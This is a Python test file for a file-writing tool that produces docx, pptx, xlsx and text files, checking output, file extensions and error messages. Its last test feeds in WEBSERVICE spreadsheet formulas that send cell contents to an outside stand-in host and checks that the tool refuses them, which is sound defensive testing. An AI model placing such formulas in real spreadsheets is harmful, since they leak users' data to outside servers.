"""New files in the four modes, opened again by other readers."""

import io

import openpyxl
import pytest
from docx import Document
from pptx import Presentation

from tests.tools.files import run, workspace
from tools.file_read import FILE_READ
from tools.file_write import FILE_WRITE
from tools.kit.json_types import JsonObject


def write(**arguments: object) -> tuple[JsonObject, bytes]:
    files = workspace("text")
    receipt = run(FILE_WRITE, arguments, files)
    return receipt, files.read(str(receipt["file_id"])) if receipt["ok"] else b""


def test_a_table_that_lacks_its_rows_draws_an_example_that_works() -> None:
    files = workspace("text")
    receipt = run(FILE_WRITE, {"mode": "spreadsheet", "filename": "sales.xlsx"}, files)
    assert receipt["error"] == "/sheets is required for mode spreadsheet and missing. No file was made."
    assert len(files.files()) == 1
    second = run(FILE_WRITE, receipt["example"], files)
    assert second["ok"] is True
    book = openpyxl.load_workbook(io.BytesIO(files.read(str(second["file_id"]))))
    assert [cell.value for cell in book["Sales"][2]] == ["May", 1200]


def test_a_receipt_says_what_was_read_back() -> None:
    receipt, _ = write(mode="document", filename="a.docx", content="# Title\n\nWords here.")
    assert receipt["headings"]
    slides, _ = write(mode="presentation", filename="a.pptx", slides=[{"title": "One"}, {"title": "Two"}])
    assert slides["titles"] == ["One", "Two"]


def test_each_mode_makes_a_file_that_other_readers_open() -> None:
    _, document = write(mode="document", filename="a", content="# Title\n\nWords here.")
    assert "Words here." in [paragraph.text for paragraph in Document(io.BytesIO(document)).paragraphs]
    _, deck = write(
        mode="presentation", filename="a", slides=[{"title": "One", "bullets": ["x"], "notes": "n"}]
    )
    assert len(Presentation(io.BytesIO(deck)).slides) == 1
    _, text = write(mode="text", filename="a.txt", content="报告\n")
    assert text.decode() == "报告\n"


def test_no_content_makes_an_empty_file_that_reads_as_empty() -> None:
    files = workspace("text")
    receipt = run(FILE_WRITE, {"mode": "text", "filename": "empty.txt", "content": ""}, files)
    assert (receipt["ok"], receipt["size"], receipt["remark"]) == (True, 0, "empty file")
    assert run(FILE_READ, {"file_id": receipt["file_id"]}, files)["remark"] == "empty file"


def test_a_missing_ending_is_added_and_a_wrong_one_refused() -> None:
    assert write(mode="document", filename="report", content="x")[0]["file"] == "report.docx"
    assert write(mode="document", filename="v1.2 report", content="x")[0]["file"] == "v1.2 report.docx"
    assert "ends in .pdf" in str(write(mode="document", filename="report.pdf", content="x")[0]["error"])
    assert "can't make a .xlsx" in str(write(mode="text", filename="a.xlsx", content="x")[0]["error"])


@pytest.mark.parametrize(
    ("arguments", "error"),
    [
        ({"mode": "text", "filename": "a.txt"}, "/content is required for mode text"),
        ({"mode": "presentation", "filename": "a", "slides": []}, "/slides is empty"),
        ({"mode": "spreadsheet", "filename": "a", "sheets": [{"name": "S"}]}, "/sheets/0/rows is required"),
        (
            {"mode": "presentation", "filename": "a", "slides": [{"bullets": []}]},
            "/slides/0/title is required",
        ),
        (
            {"mode": "text", "filename": "a", "content": "x", "slides": [{"title": "a"}]},
            "/slides does not belong",
        ),
        ({"mode": "text", "filename": " ", "content": "x"}, "/filename is empty"),
    ],
)
def test_what_a_mode_lacks_or_has_too_much_is_named(arguments: dict[str, object], error: str) -> None:
    receipt, _ = write(**arguments)
    assert str(receipt["error"]).startswith(error)
    assert isinstance(receipt["example"], dict)
    assert receipt["example"]["mode"] == arguments["mode"]


@pytest.mark.parametrize(
    "formula", ['=WEBSERVICE("https://x.invalid/"&A1)', '=webservice("https://x.invalid")']
)
def test_a_formula_that_reaches_outside_is_refused(formula: str) -> None:
    receipt, _ = write(mode="spreadsheet", filename="a", sheets=[{"name": "S", "rows": [["a"], [formula]]}])
    assert receipt["ok"] is False
